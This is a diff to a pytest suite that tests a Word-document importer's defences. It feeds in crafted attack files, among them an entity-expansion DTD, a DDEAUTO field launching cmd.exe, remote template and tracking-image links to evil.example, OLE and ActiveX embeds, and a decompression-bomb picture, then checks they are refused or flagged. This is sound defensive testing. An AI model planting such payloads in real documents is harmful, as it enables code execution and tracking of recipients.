@@ -10,11 +10,12 @@ import pytest
 from docs_engine.errors import ImportRefusedError
 from docs_engine.word import confinement, read_word, write_word
 from docs_engine.word.reader import read_word as read_here
-from tests.unit.word.foreign import paragraph, part, word_file
+from tests.unit.word.foreign import links, paragraph, part, word_file
 from tests.unit.word.mutations import mutated
 
 _HALF_A_SECOND = 0.5
 _MEGABYTES = 64
+_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
 _NAMES = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
 _DTD = f'<!DOCTYPE w [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><w:document {_NAMES}><w:body>&b;</w:body></w:document>'
 
@@ -77,9 +78,10 @@ ATTACKS = {
         "macros",
     ),
     "password": (encrypted, "password"),
-    "an old .doc": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000), "password, or of the old"),
+    "an old .doc": (lambda: _OLE + bytes(5000), "Word 2003"),
+    "password, as Word sets it": (lambda: _OLE + bytes(500) + "EncryptedPackage".encode("utf-16-le"), "password"),
     "a picture": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(500), "no Word file"),
-    "nothing": (lambda: b"", "no Word file"),
+    "nothing": (lambda: b"", "is empty"),
     "half a file": (lambda: word_file(paragraph("Text."))[:700], "damaged"),
     "broken XML": (lambda: word_file("<w:p>"), "well-formed"),
     "another zip": (lambda: _zip(("hello.txt", b"hello")), "is missing"),
@@ -115,33 +117,62 @@ def test_the_worker_refuses_as_fast_and_as_small_as_it_reads():
     assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss > 0
 
 
-@pytest.mark.parametrize(
-    ("content", "told"),
-    [
-        (
-            with_entries(("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")),
-            ("embedded file (not opened)", "oleobject1.bin"),
-        ),
-        (
-            word_file(paragraph("Text."), image="https://evil.example/track.png"),
-            ("link to something outside the file (image)", "https://evil.example/track.png"),
-        ),
-        (
-            word_file(paragraph("Text."), attachedTemplate="https://evil.example/t.dotm"),
-            ("link to something outside the file (attachedTemplate)", "https://evil.example/t.dotm"),
-        ),
-    ],
-)
-def test_what_is_never_opened_is_flagged_and_the_text_is_read(content, told):
-    read = read_here(content)
+def _with_settings(**related: str) -> bytes:
+    """A file whose settings, not whose text, lead outside."""
+    return word_file(
+        paragraph("Text."), {"word/_rels/settings.xml.rels": links(**related)}, settings=part("settings", "")
+    )
+
+
+def _huge_picture() -> bytes:
+    """A picture of 60,000 by 60,000 dots, 14 GB once it is drawn, and 8 MB of noise behind its head."""
+    head = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + (60_000).to_bytes(4, "big") * 2 + b"\x08\x06\0\0\0"
+    drawn = paragraph("Text.", '<w:r><w:drawing><wp:docPr id="1" name="huge"/></w:drawing></w:r>')
+    return word_file(drawn, {"word/media/huge.png": head + random.Random(1).randbytes(1 << 20) * 8})
+
+
+_NESTED = with_entries(("word/inner.docx", bytes(1 << 20)))
+_DDE = '<w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe /k"><w:r><w:t>Text.</w:t></w:r></w:fldSimple>'
+FLAGGED = {
+    "embedded OLE": (
+        lambda: with_entries(("word/embeddings/oleObject1.bin", _OLE)),
+        ("embedded file (not opened)", "oleobject1.bin"),
+    ),
+    "a zip in the zip": (
+        lambda: with_entries(("word/embeddings/inner.docx", _NESTED * 3)),
+        ("embedded file (not opened)", "inner.docx"),
+    ),
+    "external picture": (
+        lambda: word_file(paragraph("Text."), image="https://evil.example/track.png"),
+        ("link to something outside the file (image)", "https://evil.example/track.png"),
+    ),
+    "template of the text": (
+        lambda: word_file(paragraph("Text."), attachedTemplate="https://evil.example/t.dotm"),
+        ("link to something outside the file (attachedTemplate)", "https://evil.example/t.dotm"),
+    ),
+    "template of the settings": (
+        lambda: _with_settings(attachedTemplate="https://evil.example/t.dotm"),
+        ("link to something outside the file (attachedTemplate)", "https://evil.example/t.dotm"),
+    ),
+    "a file in another format": (
+        lambda: word_file(paragraph("Text.") + '<w:altChunk r:id="raFChunk"/>', {"word/aFChunk.html": "<b>x</b>"}),
+        ("text in another format inside the file", ""),
+    ),
+    "a field that starts a program": (
+        lambda: word_file(paragraph(_DDE)),
+        ("field that reaches outside the file (never followed)", r"DDEAUTO c:\\windows\\cmd.exe /k"),
+    ),
+    "huge picture": (_huge_picture, ("picture", "huge")),
+    "ActiveX": (lambda: with_entries(("word/activeX/a.bin", _OLE)), ("embedded file (not opened)", "a.bin")),
+}
+
+
+@pytest.mark.parametrize("name", sorted(FLAGGED))
+def test_what_is_never_opened_is_flagged_and_the_text_is_read(name):
+    make, told = FLAGGED[name]
+    read = read_here(make())
     assert read.markdown == "Text."
     assert [(entry.what, entry.example) for entry in read.left_out] == [told]
-
-
-def test_a_huge_picture_is_never_unpacked():
-    noise = random.Random(1).randbytes(1 << 20) * 8
-    content = with_entries(("word/media/huge.png", noise))
-    assert read_here(content).markdown == "Text."
 
 
 def test_a_link_that_runs_something_becomes_plain_text():
